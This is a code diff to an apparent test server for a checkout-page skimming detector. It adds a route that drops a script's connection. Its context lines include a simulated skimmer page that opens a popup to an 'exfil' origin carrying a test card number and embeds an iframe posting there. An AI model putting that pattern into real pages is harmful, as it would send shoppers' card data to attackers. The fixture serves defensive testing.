@@ -217,6 +217,8 @@ function storeHandler(o: Origins, compromised: boolean): (req: IncomingMessage, 
     // A popup off the target, and a cross-site (out-of-process) iframe that posts.
     '/lab/escape/': () =>
       `<!doctype html><html><head><title>Checkout</title><script>window.open('${o.exfil}/popup?c=4111');</script></head><body><iframe src="${o.psp}/frame.html?to=${encodeURIComponent(`${o.exfil}/f`)}"></iframe></body></html>`,
+    // A script whose connection the server drops: the page loads, the script never arrives.
+    '/lab/script-reset/': () => page('Checkout', '<h1>Checkout</h1>', [], `<script src="/lab/reset.js"></script>\n`),
     '/lab/tricks/': () => `<!doctype html><html><head><title>Tricks</title><script>${tricks(o)}</script></head><body><p>tricks</p></body></html>`,
   };
   const scripts: Readonly<Record<string, () => string>> = {
@@ -236,6 +238,7 @@ function storeHandler(o: Origins, compromised: boolean): (req: IncomingMessage, 
       return void res.writeHead(200, { 'content-type': 'application/json' }).end('{"cart":{"summary_count":1},"customer":{}}');
     // An event stream that stays open: it must not keep the page from settling.
     if (path === '/lab/events') return void res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-store' }).write('data: hello\n\n');
+    if (path === '/lab/reset.js') return void req.socket.destroy();
     if (path === '/lab/moved/') return void res.writeHead(302, { location: 'https://www.shop-elsewhere.test/checkout/' }).end();
     if (path === '/lab/maintenance/') {
       return void res
